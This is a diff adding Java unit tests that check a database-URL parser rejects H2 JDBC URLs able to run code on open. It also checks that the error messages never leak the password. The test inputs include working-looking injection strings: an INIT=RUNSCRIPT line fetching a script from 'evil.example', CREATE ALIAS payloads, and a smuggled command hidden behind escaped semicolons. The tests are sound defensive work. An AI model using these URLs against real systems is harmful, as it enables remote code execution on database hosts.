@@ -1,11 +1,14 @@
 package io.chatload.load;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertThrows;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import io.chatload.config.ConfigException;
 import io.chatload.load.DatabaseUrl.Kind;
 import java.sql.SQLException;
+import java.util.List;
 import org.junit.jupiter.api.Test;
 
 class DatabaseUrlTest {
@@ -73,5 +76,33 @@ class DatabaseUrlTest {
         assertEquals("unsupported database URL 'jdbc:sqlserver://h;password=***': supported are H2 (jdbc:h2:...),"
                 + " PostgreSQL (jdbc:postgresql://host[:port]/database),"
                 + " MariaDB/MySQL (jdbc:mariadb://host[:port]/database or jdbc:mysql://...)", e.getMessage());
+    }
+
+    @Test
+    void anH2UrlThatRunsCodeIsRefusedNamingTheSettingNotThePassword() {
+        for (String url : List.of(
+                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/p.sql'",
+                "jdbc:h2:file:./c;AUTO_SERVER=TRUE; init = CREATE ALIAS X AS 'void x() {}'",
+                "jdbc:h2:file:./c;DATABASE_EVENT_LISTENER='com.example.Listener'",
+                "jdbc:h2:file:./c;JAVA_OBJECT_SERIALIZER='com.example.Serializer'",
+                "jdbc:h2:file:./c;URL_MAP=/tmp/map.properties",
+                "jdbc:h2:file:./c;TRACE_MAX_FILE_SIZE=1\\;CREATE ALIAS X AS 'void x() {}'\\;CALL X()")) {
+            ConfigException e = assertThrows(ConfigException.class, () -> DatabaseUrl.parse(url + ";PASSWORD=pw9", "pw9"), url);
+            assertTrue(e.getMessage().startsWith("chatload.db.url: the H2 URL holds "), e.getMessage());
+            assertTrue(e.getMessage().endsWith("which runs code when the database opens; refused unless "
+                    + "chatload.db.allow-code=true (CHATLOAD_DB_ALLOW_CODE)"), e.getMessage());
+            assertFalse(e.getMessage().contains("pw9"), "the password never shows: " + e.getMessage());
+            assertFalse(e.getMessage().lines().count() > 1, e.getMessage());
+        }
+        ConfigException init = assertThrows(ConfigException.class, () -> parse("jdbc:h2:mem:x;INIT=SELECT 1"));
+        assertTrue(init.getMessage().contains("holds INIT="), init.getMessage());
+    }
+
+    @Test
+    void theSettingLetsAnH2UrlRunCode() throws SQLException {
+        assertEquals("jdbc:h2:mem:x;INIT=CREATE SCHEMA IF NOT EXISTS s",
+                DatabaseUrl.parse("jdbc:h2:mem:x;INIT=CREATE SCHEMA IF NOT EXISTS s", "", true).driverUrl());
+        assertEquals("jdbc:h2:file:./c;IFEXISTS=FALSE;WRITE_DELAY=0",
+                parse("jdbc:h2:file:./c;IFEXISTS=FALSE").driverUrl(), "other settings stay allowed");
     }
 }
